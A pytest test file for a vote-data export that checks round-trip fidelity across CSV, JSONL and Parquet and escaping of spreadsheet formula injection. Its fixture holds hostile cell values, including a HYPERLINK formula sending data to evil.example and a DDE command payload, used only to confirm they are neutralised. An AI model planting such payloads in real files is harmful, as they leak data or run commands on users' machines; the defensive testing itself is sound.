"""The streamed vote export (:func:`datamodel.vote_table.export_votes`) holds exactly the vote table
(:func:`votes_frame`),
value for value, in every format and whatever the chunk size, including text a writer must quote or escape."""

from __future__ import annotations

import csv
import json
import math
from collections.abc import Callable

import pandas as pd
import pyarrow.parquet as pq
import pytest

from datamodel.connection import connect
from datamodel.vote_table import COLUMNS, EXPORT_FORMATS, EXPORT_SCHEMA, csv_cell_text, export_votes, votes_frame
from tools.scale_fixture import ScaleSpec, build_scale_database

ODD_TEXT = 'Ein Käse, "猫" und ein Brötchen\nzweite Zeile — ça va\r'
ODD_VOTERS = ["Zoë Ōkubo", "Smith, Anna", 'O\'Brien, "Bob"', "line\nbreak", "back\\slash", "bell\x07", "100%s sure",
              "=SUM(A1:A9)", "tab\there"]


@pytest.fixture(scope="module")
def study_db(tmp_path_factory):
    root = tmp_path_factory.mktemp("study")
    build_scale_database(ScaleSpec(votes=2_000, annotators=50, models=5, prompts=40), root / "arena.db",
                         root / "media", progress=lambda *_: None)
    db = connect(root / "arena.db")
    with db.conn:
        db.execute("UPDATE prompts SET text = ?, metadata = ? WHERE id = 1",
                   [ODD_TEXT, json.dumps({"lemma": "Käse", "note": "ü, \"q\"", "n": [1, 2.5, None]})])
        db.execute("UPDATE models SET name = 'scale-model, two' WHERE id = 2")
        for k, voter in enumerate(ODD_VOTERS):
            db.execute("UPDATE votes SET voter = ? WHERE voter_kind = 'human' AND id % 40 = ?", [voter, k])
        db.execute("UPDATE votes SET excluded_reason = 'flagged, \"by hand\"' WHERE excluded AND id % 2 = 0")
        db.execute("UPDATE votes SET seconds_to_vote = NULL WHERE id % 97 = 0")
    frame = votes_frame(db)
    assert frame["voter_kind"].eq("judge").any() and frame["excluded"].any() and not frame["excluded"].all()
    assert frame["judge"].isna().any() and frame["category"].isna().any() and frame["seconds_to_vote"].isna().any()
    assert frame["prompt"].eq(ODD_TEXT).any() and set(ODD_VOTERS) <= set(frame["voter"])
    yield db
    db.close()


def missing(value) -> bool:
    return value is None or (isinstance(value, float) and math.isnan(value))


def expected_records(db) -> list[dict]:
    """The vote table as plain Python values: what every format must hold."""
    frame = votes_frame(db)
    return [{name: None if missing(value) else value for name, value in row.items()}
            for row in frame.astype(object).to_dict(orient="records")]


def read_back(path, fmt: str) -> list[dict]:
    """The exported rows as plain Python values, text as text (CSV: typed back with EXPORT_SCHEMA)."""
    if fmt == "parquet":
        return [{name: None if missing(value) else value for name, value in row.items()}
                for row in pq.read_table(path).to_pylist()]
    if fmt == "jsonl":
        rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
        return [{**row, "prompt_metadata": json.dumps(row["prompt_metadata"])} for row in rows]
    with open(path, newline="", encoding="utf-8") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        types = {field.name: str(field.type) for field in EXPORT_SCHEMA}
        # a text a spreadsheet would run as a formula is written with a leading quote (csv_cell_text undoes it)
        convert: dict[str, Callable[[str], object]] = {"int64": int, "double": float,
                                                       "bool": lambda text: text == "true", "string": csv_cell_text}
        # pyarrow quotes every text value, so an unquoted empty field is a missing value
        return [{name: None if text == "" and types[name] != "string" else convert[types[name]](text)
                 for name, text in zip(header, row)} for row in reader]


def same(exported: list[dict], expected: list[dict], fmt: str) -> None:
    assert len(exported) == len(expected)
    for got, want in zip(exported, expected):
        assert list(got) == COLUMNS
        for name in COLUMNS:
            value, wanted = got[name], want[name]
            if name == "prompt_metadata":
                value, wanted = json.loads(value), json.loads(wanted)
            if fmt == "csv" and wanted is None and EXPORT_SCHEMA.field(name).type == "string":
                wanted = ""  # CSV cannot tell a missing text from an empty one
            if isinstance(wanted, float):
                assert value == pytest.approx(wanted, rel=1e-12), (name, got["vote_id"])
            else:
                assert value == wanted, (name, got["vote_id"])


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
@pytest.mark.parametrize("chunk_rows", [7, 50_000])
def test_the_export_holds_the_vote_table_value_for_value(study_db, tmp_path, fmt, chunk_rows):
    path = tmp_path / f"votes.{fmt}"
    assert export_votes(study_db, path, chunk_rows=chunk_rows) == 2_000
    same(read_back(path, fmt), expected_records(study_db), fmt)


def test_the_parquet_file_has_the_export_schema_and_a_row_group_per_chunk(study_db, tmp_path):
    path = tmp_path / "votes.parquet"
    export_votes(study_db, path, chunk_rows=500)
    parquet = pq.ParquetFile(path)
    assert parquet.schema_arrow == EXPORT_SCHEMA and parquet.num_row_groups == 4
    frame = pd.read_parquet(path)
    assert frame["excluded"].dtype == bool and frame["vote_id"].is_monotonic_increasing


@pytest.mark.parametrize("fmt", EXPORT_FORMATS)
def test_an_empty_vote_table_exports_only_the_header(tmp_path, fmt):
    db = connect(":memory:")
    path = tmp_path / f"votes.{fmt}"
    assert export_votes(db, path) == 0
    if fmt == "csv":
        assert next(csv.reader(path.open())) == COLUMNS and len(path.read_text().splitlines()) == 1
    elif fmt == "jsonl":
        assert path.read_text() == ""
    else:
        assert pq.read_table(path).schema == EXPORT_SCHEMA and pq.read_table(path).num_rows == 0


def test_bad_formats_and_chunks_are_refused(study_db, tmp_path):
    with pytest.raises(ValueError, match="choose a .csv, .jsonl or .parquet file"):
        export_votes(study_db, tmp_path / "votes.xlsx")
    with pytest.raises(ValueError, match="chunk_rows must be at least 1"):
        export_votes(study_db, tmp_path / "votes.csv", chunk_rows=0)


# --- spreadsheet formula injection (OWASP "CSV Injection"): the CSV escapes, JSONL and Parquet stay exact -----------

HOSTILE = {"prompt": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "model": "+cmd|' /C calc'!A0",
           "voter": "@SUM(1)", "battle": "-2+3", "reason": "\tleading tab", "subset": "\rcarriage return"}


@pytest.fixture
def hostile_db(tmp_path):
    """A small vote table whose first vote carries text a spreadsheet would run as a formula, in every kind of
    text column, and a negative number in a numeric column."""
    build_scale_database(ScaleSpec(votes=40, annotators=4, models=3, prompts=5), tmp_path / "arena.db",
                         tmp_path / "media", progress=lambda *_: None)
    db = connect(tmp_path / "arena.db")
    db.execute("PRAGMA foreign_keys = OFF")  # the battle id changes in votes and battles together
    with db.conn:
        prompt_id, model_id, battle_id = db.execute(
            "SELECT v.prompt_id, v.left_model_id, v.battle_id FROM votes v "
            "WHERE v.id = 1").fetchone()
        db.execute("UPDATE prompts SET text = ?, subset = ? WHERE id = ?",
                   [HOSTILE["prompt"], HOSTILE["subset"], prompt_id])
        db.execute("UPDATE models SET name = ? WHERE id = ?", [HOSTILE["model"], model_id])
        db.execute("UPDATE battles SET id = ? WHERE id = ?", [HOSTILE["battle"], battle_id])
        db.execute("UPDATE votes SET battle_id = ?, voter = ?, excluded_reason = ?, seconds_to_vote = -2.5 "
                   "WHERE id = 1", [HOSTILE["battle"], HOSTILE["voter"], HOSTILE["reason"]])
    yield db
    db.close()


def test_the_csv_export_escapes_cells_a_spreadsheet_would_run_as_formulas(hostile_db, tmp_path):
    path = tmp_path / "votes.csv"
    export_votes(hostile_db, path)
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    first = rows[0]
    assert first["prompt"] == "'" + HOSTILE["prompt"] and first["voter"] == "'" + HOSTILE["voter"]
    assert first["battle_id"] == "'" + HOSTILE["battle"] and first["excluded_reason"] == "'" + HOSTILE["reason"]
    assert first["subset"] == "'" + HOSTILE["subset"]
    assert "'" + HOSTILE["model"] in (first["model_a"], first["model_b"])
    risky = ("=", "+", "-", "@", "\t", "\r")
    assert not [(row["vote_id"], name, text) for row in rows for name, text in row.items()
                if text.startswith(risky) and str(EXPORT_SCHEMA.field(name).type) == "string"]
    assert first["seconds_to_vote"] == "-2.5"  # a number stays a number
    assert "'" + HOSTILE["model"] in {row["winner"] for row in rows}


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_formula_like_text_exactly(hostile_db, tmp_path, fmt):
    path = tmp_path / f"votes.{fmt}"
    export_votes(hostile_db, path)
    first = read_back(path, fmt)[0]
    assert (first["prompt"], first["voter"], first["battle_id"]) == (HOSTILE["prompt"], HOSTILE["voter"],
                                                                     HOSTILE["battle"])
    assert (first["excluded_reason"], first["subset"]) == (HOSTILE["reason"], HOSTILE["subset"])
    assert HOSTILE["model"] in (first["model_a"], first["model_b"]) and first["seconds_to_vote"] == -2.5


def test_the_formula_escape_is_undone_exactly_by_csv_cell_text():
    import pyarrow as pa

    from datamodel.vote_table import escape_formulas

    texts = ["=1+1", "'=1+1", "''@x", "'plain", "plain", "", "-", "'", "a=b", "\tx", "\x00x", None]
    batch = pa.RecordBatch.from_arrays([pa.array(texts, pa.string()), pa.array([-1.0] * len(texts))],
                                       names=["text", "number"])
    escaped = escape_formulas(batch)
    assert escaped.column(0).to_pylist()[:5] == ["'=1+1", "''=1+1", "'''@x", "'plain", "plain"]
    assert [csv_cell_text(text) for text in escaped.column(0).to_pylist()[:-1]] == texts[:-1]
    assert escaped.column(0).to_pylist()[-1] is None and escaped.column(1) == batch.column(1)
